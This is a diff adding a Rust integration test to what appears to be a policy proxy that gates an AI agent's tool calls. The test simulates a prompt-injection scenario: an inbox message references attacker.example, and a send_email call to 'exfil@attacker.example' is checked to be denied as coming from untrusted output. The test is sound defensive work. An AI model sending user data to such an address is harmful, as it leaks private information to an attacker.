@@ -581,3 +581,155 @@ fn serve_answers_garbage_with_errors_and_exits_at_eof() {
         "serve never creates the audit directory"
     );
 }
+
+/// The decision records `wrap` wrote, in order: (tool, effect, contract, rule, reason).
+type Decided = (String, String, String, Option<String>, String);
+
+fn audit_decisions(path: &Path) -> Vec<Decided> {
+    std::fs::read_to_string(path)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str::<Value>(l).unwrap())
+        .filter(|r| r["kind"] == "decision")
+        .map(|r| {
+            (
+                r["tool"].as_str().unwrap_or_default().to_owned(),
+                r["effect"].as_str().unwrap_or_default().to_owned(),
+                r["contract"].as_str().unwrap_or_default().to_owned(),
+                r["rule"].as_str().map(str::to_owned),
+                r["reason"].as_str().unwrap_or_default().to_owned(),
+            )
+        })
+        .collect()
+}
+
+/// What `wrap` really decides (a real proxy in front of the demo server, its audit log) is
+/// what `check_verdict` answers for the same calls, with the untrusted output the proxy saw
+/// given as `untrusted_context`.
+#[tokio::test]
+async fn check_verdict_matches_a_real_wrap() {
+    let f = Fixture::new();
+    let wrap_audit = f.base.join("wrap-audit.jsonl");
+    let wrap_policy = POLICY.replace(
+        "tools:\n",
+        "  - id: allow-read-only\n    effect: allow\n    operations: [unknown]\n    annotations: {readOnlyHint: true}\ntools:\n",
+    );
+    assert_ne!(wrap_policy, POLICY);
+    std::fs::write(f.base.join("wrap-policy.yaml"), &wrap_policy).unwrap();
+    let mut child = tokio::process::Command::new(EXE)
+        .args(["wrap", "--approval", "none", "--workspace"])
+        .arg(f.work())
+        .arg("--policy")
+        .arg(f.base.join("wrap-policy.yaml"))
+        .arg("--audit")
+        .arg(&wrap_audit)
+        .args(["--", EXE, "demo", "--internal-server", "--workspace"])
+        .arg(f.work())
+        .arg("--outbox")
+        .arg(f.base.join("outbox"))
+        .arg("--record")
+        .arg(f.base.join("record"))
+        .env("HOME", f.home())
+        .env("TOOLGATE_PINS_DIR", f.base.join("pins"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .kill_on_drop(true)
+        .spawn()
+        .unwrap();
+    let stdin = child.stdin.take().unwrap();
+    let stdout = child.stdout.take().unwrap();
+    let wrapped = tokio::time::timeout(LIMIT, ().serve((stdout, stdin)))
+        .await
+        .expect("initialize in time")
+        .expect("initialize");
+    let listed = tokio::time::timeout(LIMIT, wrapped.peer().list_all_tools())
+        .await
+        .unwrap()
+        .unwrap();
+    let definition = |name: &str| {
+        let tool = listed.iter().find(|t| t.name == name).unwrap();
+        serde_json::to_value(tool).unwrap()
+    };
+    let inbox = call(&wrapped, "read_inbox", json!({})).await;
+    let inbox_text = text(&inbox);
+    assert!(inbox_text.contains("attacker.example"), "{inbox_text}");
+    let calls = [
+        ("read_file", json!({"path": "src/main.rs"})),
+        (
+            "send_email",
+            json!({"to": "exfil@attacker.example", "subject": "notes", "body": "x"}),
+        ),
+        (
+            "send_email",
+            json!({"to": "bob@example.org", "subject": "notes", "body": "x"}),
+        ),
+    ];
+    for (tool, args) in &calls {
+        call(&wrapped, tool, args.clone()).await;
+    }
+    wrapped.cancel().await.unwrap();
+    let _ = tokio::time::timeout(LIMIT, child.wait()).await;
+    let decided = audit_decisions(&wrap_audit);
+
+    let client = f.serve().await;
+    // read_inbox is allowed by an annotation rule: only with its pinned definition.
+    let calls: Vec<(&str, Value)> = std::iter::once(("read_inbox", json!({})))
+        .chain(calls)
+        .collect();
+    assert_eq!(decided.len(), calls.len(), "{decided:#?}");
+    let mut said = Vec::new();
+    for ((tool, args), wrapped) in calls.iter().zip(&decided) {
+        let result = call(
+            &client,
+            "check_verdict",
+            json!({"tool": tool, "arguments": args, "untrusted_context": [inbox_text],
+                   "policy": wrap_policy, "tool_definition": definition(tool)}),
+        )
+        .await;
+        let got = structured(&result);
+        let d = &got["decision"];
+        said.push(d["effect"].as_str().unwrap().to_owned());
+        // wrap runs with `--approval none`: an ask is denied, with the engine's reason.
+        let effect = match d["effect"].as_str().unwrap() {
+            "ask" => "deny",
+            other => other,
+        };
+        let reason = d["reason"]
+            .as_str()
+            .unwrap()
+            .replace("`untrusted_context`", "`read_inbox`");
+        let mine = (
+            (*tool).to_owned(),
+            effect.to_owned(),
+            d["contract"].as_str().unwrap().to_owned(),
+            d["rule"].as_str().map(str::to_owned),
+        );
+        let theirs = (
+            wrapped.0.clone(),
+            wrapped.1.clone(),
+            wrapped.2.clone(),
+            wrapped.3.clone(),
+        );
+        assert_eq!(mine, theirs, "check_verdict and wrap differ for `{tool}`");
+        // An ask wrap could not put to anyone keeps the engine's reason and says why.
+        let want = if d["effect"] == "ask" {
+            format!("{reason}; no way to ask a human")
+        } else {
+            reason
+        };
+        assert!(
+            wrapped.4.starts_with(&want),
+            "`{tool}`: {} vs {want}",
+            wrapped.4
+        );
+        if d["effect"] != "ask" {
+            assert_eq!(wrapped.4, want);
+        }
+    }
+    // The tainted address is denied outright; the unproven one is asked.
+    assert_eq!(said, ["allow", "allow", "deny", "ask"]);
+    let contracts: Vec<&str> = decided.iter().map(|d| d.2.as_str()).collect();
+    assert_eq!(contracts, ["rule", "rule", "sink_gate", "sink_gate"]);
+    assert!(decided[2].4.contains("untrusted output"), "{decided:#?}");
+    client.cancel().await.unwrap();
+}
